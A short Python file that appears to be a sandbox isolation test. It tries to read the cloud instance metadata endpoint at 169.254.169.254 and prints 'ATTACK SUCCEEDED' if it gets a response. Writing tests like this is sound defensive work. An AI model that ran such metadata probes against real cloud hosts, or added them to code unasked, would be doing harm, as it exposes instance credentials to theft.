# attacks = "credentials from a cloud's metadata service"
# cells = ["ok"]
# %% own
import urllib.request
try:
    print("ATTACK SUCCEEDED", urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=0.3).read())
except OSError:
    pass
